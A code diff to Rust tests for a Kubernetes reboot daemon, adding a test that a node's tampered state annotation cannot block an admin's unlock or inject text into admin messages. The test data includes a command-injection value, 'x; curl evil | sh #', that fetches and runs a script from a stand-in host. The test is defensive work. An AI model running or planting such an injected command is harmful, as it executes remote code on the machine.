@@ -81,7 +81,7 @@ async fn i1_i3_in_the_wrong_namespace_nothing_is_taken_off() {
         node,
         force,
     };
-    let wrong = unlock(&admin, &order("default", "n0", true)).await;
+    let wrong = unlock(&admin, &order("default", "n0", false)).await;
     let words = wrong.expect_err("elsewhere").to_string();
     assert!(
         words.contains("default in namespace kube-rebootd"),
@@ -103,8 +103,53 @@ async fn i1_i3_in_the_wrong_namespace_nothing_is_taken_off() {
     );
     world.check(labelled(&world), "the label is there");
     let idle = unlock(&admin, &order("default", "n1", false)).await;
-    assert_eq!(idle.expect("nothing to do"), Unlocked::default());
+    let nothing = Unlocked {
+        no_slots: true,
+        ..Unlocked::default()
+    };
+    assert_eq!(idle.expect("nothing to do"), nothing);
     let right = unlock(&admin, &order("kube-rebootd", "n0", true)).await;
     assert_eq!(right.expect("unlocked").leases, ["default"]);
     world.check(!labelled(&world), "the label is off");
+}
+
+/// Found by an attacker's reading: a node writes its own record, and what it says there must neither keep an admin from its
+/// slot nor put words into what an admin is told to run.
+#[tokio::test(start_paused = true)]
+async fn i14_a_record_that_names_another_namespace_keeps_no_slot() {
+    for lie in ["tenant", "x; curl evil | sh #"] {
+        let world = World::new(2, 1).await;
+        world.want(0);
+        world.until_phase(0, "Draining", HOUR).await;
+        world.hosts[0].order(host::Order::Kill(2 * HOUR));
+        world.pass(Duration::from_secs(1)).await;
+        world.server.set(|state| {
+            state.edit(("nodes", "", "n0"), "hostile", |node| {
+                let state = &mut node["metadata"]["annotations"]["kube-rebootd/state"];
+                let told = state.as_str().unwrap();
+                let from = "\"namespace\":\"kube-rebootd\"";
+                assert!(told.contains(from), "{told}");
+                *state = told
+                    .replace(from, &format!("\"namespace\":\"{lie}\""))
+                    .into();
+            });
+        });
+        let admin = world.server.client("admin", User::Admin);
+        let order = |namespace, force| Order {
+            namespace,
+            node: "n0",
+            force,
+        };
+        let elsewhere = unlock(&admin, &order("default", false))
+            .await
+            .expect_err("no");
+        assert!(!elsewhere.to_string().contains("curl"), "{elsewhere}");
+        let ready = unlock(&admin, &order("kube-rebootd", false)).await;
+        assert!(matches!(ready, Err(UnlockError::Ready { .. })), "{ready:?}");
+        let done = unlock(&admin, &order("kube-rebootd", true))
+            .await
+            .expect("unlocked");
+        assert_eq!(done.leases, ["default"]);
+        world.check(!labelled(&world), "the label is off");
+    }
 }
